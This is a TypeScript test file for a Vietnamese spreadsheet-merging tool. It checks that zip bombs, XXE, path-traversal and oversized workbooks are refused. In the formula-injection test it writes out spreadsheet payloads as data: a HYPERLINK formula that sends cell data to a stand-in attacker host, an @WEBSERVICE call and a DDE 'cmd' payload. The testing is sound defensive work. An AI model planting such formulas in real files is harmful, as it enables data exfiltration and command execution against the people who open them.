/**
 * The corpus of bad, strange and hostile files (made by scripts/make-corpus.js), each
 * read the way the command line reads a submission, with the outcome it must have.
 * None may hang, exhaust memory, or stop the others from merging.
 */
import { readFileSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { checkPath, existingPath, readOne } from "../../src/cli/readFiles";
import { randomBytes } from "node:crypto";
import JSZip from "jszip";
import { buildWorkbook } from "../../src/workbook/write";
import { mergeSubmissions, type Submission } from "../../src/core/merge";
import { openWorkbook } from "../../src/adapters/xlsx/openWorkbook";
import { pakoZip } from "../../src/adapters/xlsx/pakoZip";
import { openBytes } from "../helpers/open";
import { writeXlsx } from "../../src/adapters/xlsx/writeXlsx";
import { newPlan } from "../../src/workbook/plan";
import { buildConsolidatedWorkbook } from "../../src/workbook/consolidated";
import { SHEETS } from "../../src/workbook/layout";
import { resaveWithLibreOffice } from "../helpers/libreoffice";

const DIR = __dirname;
const read = (file: string) => readOne({ path: join(DIR, file), label: file }, {});
const names = (s: Submission) => (s.outcome.kind === "read" ? s.outcome.plan.agencies.map((a) => a.name) : []);

const REJECTED: Array<[string, string]> = [
  ["zip-bomb.xlsx", "giải nén ra 200 MB, vượt giới hạn 50 MB"],
  ["zip-bomb-lying-size.xlsx", "bom nén"],
  ["billion-laughs.xlsx", "DOCTYPE"],
  ["xxe.xlsx", "DOCTYPE"],
  ["million-rows.xlsx", "dòng 1.000.000, quá 100.000 dòng"],
  ["16000-columns.xlsx", "quá 1.000 cột"],
  ["path-traversal.xlsx", "đường dẫn bất thường"],
  ["not-a-workbook.xlsx", "không phải tệp sổ tính Excel"],
  ["truncated.xlsx", "bị hỏng hoặc không đầy đủ"],
  ["broken-compound.xls", "Excel 97-2003 (.xls) bị hỏng"],
  ["password-protected.xlsx", ".xlsx có đặt mật khẩu mở"],
  ["empty.xlsx", "tệp rỗng"],
  ["empty-workbook.xlsx", "sổ tính trống"],
  ["no-plan-sheets.xlsx", '"Bảng lương"'],
];

describe("refused, with the reason in Vietnamese", () => {
  it.each(REJECTED)("%s", async (file, reason) => {
    const s = await read(file);
    expect(s.outcome).toEqual({ kind: "rejected", reason: expect.stringContaining(reason) });
  });

  it("a file over the 20 MB limit", async () => {
    const dir = mkdtempSync(join(tmpdir(), "kh-big-"));
    writeFileSync(join(dir, "qua-lon.xlsx"), Buffer.alloc(21 * 1024 * 1024, 1));
    const s = await readOne({ path: join(dir, "qua-lon.xlsx"), label: "qua-lon.xlsx" }, {});
    expect(s.outcome).toEqual({ kind: "rejected", reason: expect.stringContaining("tệp quá lớn (21 MB; tối đa 20 MB)") });
  });

  it("past a submission's size, only a consolidated workbook is read: said to be one among the files, opened for --into and validate", async () => {
    const dir = mkdtempSync(join(tmpdir(), "kh-big-"));
    // 21 MB of what does not compress, in a part no sheet refers to: the size of a national roll-up.
    const padded = async (bytes: Uint8Array) => {
      const zip = await JSZip.loadAsync(bytes);
      zip.file("xl/media/khong-dung.bin", randomBytes(21 * 1024 * 1024), { compression: "STORE" });
      return zip.generateAsync({ type: "nodebuffer" });
    };
    const plan = newPlan({ year: 2022, levels: 3, standardTasks: true });
    const agencies = [{ name: "Sở Y tế", groupId: "so-nganh", area: "", note: "" }];
    const submissions: Submission[] = [{ file: "syt.xlsx", modified: 1, outcome: { kind: "read", problems: [], plan: { ...plan, agencies } } }];
    const merged = mergeSubmissions(submissions, plan);
    writeFileSync(join(dir, "tong-hop.xlsx"), await padded(await writeXlsx(buildConsolidatedWorkbook(merged, submissions))));
    writeFileSync(join(dir, "ke-hoach.xlsx"), await padded(await writeXlsx(buildWorkbook({ ...plan, agencies }))));
    const among = await readOne({ path: join(dir, "tong-hop.xlsx"), label: "tong-hop.xlsx" }, {});
    expect(among.outcome).toEqual({ kind: "rejected", consolidated: true, reason: expect.stringContaining("đây là một bản tổng hợp") });
    const into = await existingPath(join(dir, "tong-hop.xlsx"));
    expect(into.ok === true && into.existing?.stored.map((s) => s.file)).toEqual(["syt.xlsx"]);
    expect(await checkPath(join(dir, "tong-hop.xlsx"))).toEqual({ ok: true, problems: expect.any(Array) });
    // Any other workbook that size is refused as before.
    const plain = await readOne({ path: join(dir, "ke-hoach.xlsx"), label: "ke-hoach.xlsx" }, {});
    expect(plain.outcome).toEqual({ kind: "rejected", reason: expect.stringContaining("tệp quá lớn (21 MB; tối đa 20 MB)") });
    expect(await checkPath(join(dir, "ke-hoach.xlsx"))).toEqual({ ok: false, reason: expect.stringContaining("tệp quá lớn") });
  });

  it.each(["zip-bomb.xlsx", "zip-bomb-lying-size.xlsx"])("%s also in the browser's inflater", async (file) => {
    await expect(openWorkbook(new Uint8Array(readFileSync(join(DIR, file))), { codec: pakoZip })).rejects.toThrow(/giới hạn 50 MB/);
  });

  it("writes nothing outside when a zip entry climbs out of its folder", async () => {
    await read("path-traversal.xlsx");
    expect(() => readFileSync("/tmp/kehoach-iso-pwned.txt")).toThrow();
  });
});

describe("read", () => {
  it("legacy.xls: an Excel 97-2003 plan is read like an .xlsx", async () => {
    const s = await read("legacy.xls");
    expect(names(s)).toEqual(["Sở Y tế", "UBND xã Tân Bình"]);
    expect(s.outcome.kind === "read" && s.outcome.plan.agencies[1].note).toBe("gửi bằng .xls");
  });
});

describe("neutralised: read, with nothing executed", () => {
  it("formula-injection.xlsx: names and notes that start with = + - @ stay text in every workbook we write", async () => {
    const s = await read("formula-injection.xlsx");
    expect(names(s)).toEqual(['=HYPERLINK("http://tan-cong.example/?"&A1,"Sở Y tế")', "+SUM(1,2)", '@WEBSERVICE("http://x")']);
    const plan = newPlan({ year: 2026, levels: 2, standardTasks: false });
    const result = mergeSubmissions([s], plan);
    const bytes = await writeXlsx(buildConsolidatedWorkbook(result, [s]));
    // LibreOffice opens and recalculates the output: text stays text.
    const raw = await openBytes(resaveWithLibreOffice(bytes));
    const cells = raw.sheets.find((x) => x.name === SHEETS.agencies)!.rows.flat();
    for (const text of [...names(s), '=cmd|" /C calc"!A0', "-2+3"]) expect(cells).toContain(text);
  });
});

describe("legacy Vietnamese encodings", () => {
  it("tcvn3-vntime.xlsx: converted by its .VnTime font, each conversion named", async () => {
    const s = await read("tcvn3-vntime.xlsx");
    expect(names(s)).toEqual(["Sở Y tế", "UBND xã Hòa An", "Chi cục Thủy lợi"]);
    if (s.outcome.kind !== "read") throw new Error("not read");
    expect(s.outcome.plan.agencies.map((a) => a.area)).toEqual(["tỉnh Đồng Tháp", "Thành phố Cao Lãnh", "tỉnh Đồng Tháp"]);
    expect(s.outcome.problems.filter((p) => p.code === "LEGACY_ENCODING")).toContainEqual(
      expect.objectContaining({ severity: "warning", cell: "B2", message: expect.stringContaining('"Së Y tÕ" → "Sở Y tế"') }),
    );
  });

  it("vni-times.xlsx: converted by its VNI-Times font", async () => {
    expect(names(await read("vni-times.xlsx"))).toEqual(["Sở Y tế", "UBND xã Hòa An"]);
  });

  it("tcvn3-no-font.xlsx: recognised by its characters; the row it cannot read is flagged and never merged", async () => {
    const s = await read("tcvn3-no-font.xlsx");
    expect(names(s)[0]).toBe("Sở Nội vụ");
    const result = mergeSubmissions([s], newPlan({ year: 2026, levels: 2, standardTasks: false }));
    expect(result.plan.agencies.map((a) => a.name)).toEqual(["Sở Nội vụ"]);
    expect(result.files[0]).toEqual(expect.objectContaining({ read: 2, kept: 1, rejected: 1 }));
    expect(result.files[0].problems).toContainEqual(expect.objectContaining({ severity: "error", code: "LEGACY_ENCODING", cell: "B3" }));
  });
});

it("the whole corpus in one merge: every file accounted for, the readable ones merged", async () => {
  const files = [...REJECTED.map(([f]) => f), "formula-injection.xlsx", "tcvn3-vntime.xlsx", "vni-times.xlsx", "tcvn3-no-font.xlsx"];
  const subs = await Promise.all(files.map(read));
  const result = mergeSubmissions(subs, newPlan({ year: 2026, levels: 2, standardTasks: false }));
  expect(result.files).toHaveLength(files.length);
  expect(result.files.filter((f) => f.status === "rejected").map((f) => f.file).sort()).toEqual(REJECTED.map(([f]) => f).sort());
  expect(result.totals.read).toBe(result.totals.kept + result.totals.duplicates + result.totals.rejected + result.totals.replaced);
  // Sở Y tế from the .VnTime file and the VNI file is one agency.
  expect(result.duplicates.map((d) => d.name)).toEqual(expect.arrayContaining(["Sở Y tế", "UBND xã Hòa An"]));
});
